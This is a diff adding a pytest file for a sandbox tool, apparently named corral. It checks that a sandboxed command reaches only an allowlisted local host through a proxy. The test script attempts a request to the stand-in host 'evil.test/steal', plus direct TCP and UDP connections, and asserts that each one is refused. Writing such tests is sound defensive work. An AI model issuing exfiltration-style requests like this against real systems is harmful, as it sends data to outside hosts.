@@ -1,0 +1,113 @@
+"""Network by allowlist, through real bwrap: a sandboxed command reaches the allowed host through
+corral's proxy, gets a refusal naming the setting for any other, and has no way around the proxy.
+
+The upstream server listens on the host's loopback in the test process, and is reached by the
+name `localhost`, allowed private addresses as a mirror on the user's own network would be.
+What it received is checked after corral exited.
+"""
+
+from __future__ import annotations
+
+import socket
+import threading
+
+import pytest
+
+from .sandbox_support import DONE
+
+pytestmark = pytest.mark.sandbox
+
+CLIENT = r"""
+import os, socket, sys, urllib.error, urllib.request
+port = int(sys.argv[1])
+for name in ("NO_PROXY", "no_proxy"):  # localhost is the sandbox's own, by default
+    os.environ.pop(name, None)
+print("PROXY", os.environ.get("HTTPS_PROXY"))
+print("BODY", urllib.request.urlopen(f"http://localhost:{port}/ok", timeout=10).read().decode())
+try:
+    urllib.request.urlopen("http://evil.test/steal", timeout=10)
+except urllib.error.HTTPError as e:
+    print("REFUSED", e.code, e.read().decode().strip())
+try:
+    socket.create_connection(("127.0.0.1", port), timeout=3).sendall(b"GET /direct")
+    print("DIRECT-TCP-WORKED")
+except OSError as e:
+    print("direct tcp refused", e)
+try:
+    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("8.8.8.8", 53))
+    print("UDP-SENT")
+except OSError as e:
+    print("udp refused", e)
+with open("fetched.txt", "w") as f:
+    f.write("written next to a fetch\n")
+print("CORRAL-SCRIPT-DONE")
+"""
+assert DONE in CLIENT
+
+
+class Upstream:
+    def __init__(self) -> None:
+        self.requests: list[bytes] = []
+        self.sock = socket.create_server(("127.0.0.1", 0))
+        self.port = self.sock.getsockname()[1]
+        threading.Thread(target=self._serve, daemon=True).start()
+
+    def _serve(self) -> None:
+        while True:
+            try:
+                conn, _ = self.sock.accept()
+            except OSError:
+                return
+            with conn:
+                conn.settimeout(5)
+                data = b""
+                while b"\r\n\r\n" not in data and (chunk := conn.recv(4096)):
+                    data += chunk
+                self.requests.append(data)
+                conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 8\r\n\r\nUPSTREAM")
+
+
+def _config(host, port: int) -> None:  # type: ignore[no-untyped-def]
+    path = host.home / ".config" / "corral" / "config.toml"
+    path.parent.mkdir(parents=True, exist_ok=True)
+    path.write_text(
+        "[sandbox.policy]\n"
+        f'network_allow = ["localhost:{port}"]\n'
+        'network_private = ["localhost"]\n'
+    )
+
+
+@pytest.mark.parametrize("writes", ["apply", "direct"])
+def test_allowed_host_through_the_proxy_and_nothing_else(host, writes: str) -> None:  # type: ignore[no-untyped-def]
+    upstream = Upstream()
+    _config(host, upstream.port)
+    try:
+        result = host.corral(
+            "run", "--writes", writes, "--", "python3", "-c", CLIENT, str(upstream.port)
+        )
+    finally:
+        upstream.sock.close()
+    out = result.stdout
+    assert DONE in out, result.stderr
+    assert "PROXY http://127.0.0.1:3128" in out
+    assert "BODY UPSTREAM" in out
+    assert "REFUSED 403" in out and "sandbox.policy.network_allow" in out
+    assert "DIRECT-TCP-WORKED" not in out and "UDP-SENT" not in out
+    # The host's server saw the one allowed request, for the allowed name, and nothing else.
+    assert len(upstream.requests) == 1, upstream.requests
+    head = upstream.requests[0].decode()
+    assert head.startswith("GET /ok HTTP/1.1") and f"Host: localhost:{upstream.port}" in head
+    assert "corral: blocked connection to evil.test:80" in result.stderr
+    assert (host.ws / "fetched.txt").read_text() == "written next to a fetch\n"
+    assert result.returncode == 0
+
+
+def test_a_bad_entry_stops_the_run_with_its_name(host) -> None:  # type: ignore[no-untyped-def]
+    result = host.corral("run", "--allow-host", "https://pypi.org", "--", "true")
+    assert result.returncode != 0
+    assert "sandbox.policy.network_allow" in result.stderr and "not a URL" in result.stderr
+
+
+def test_a_wrapped_argv_says_it_gets_no_network(host) -> None:  # type: ignore[no-untyped-def]
+    result = host.corral("wrap", "--allow-host", "pypi.org", "--", "true")
+    assert "only `corral run` starts yet" in result.stderr
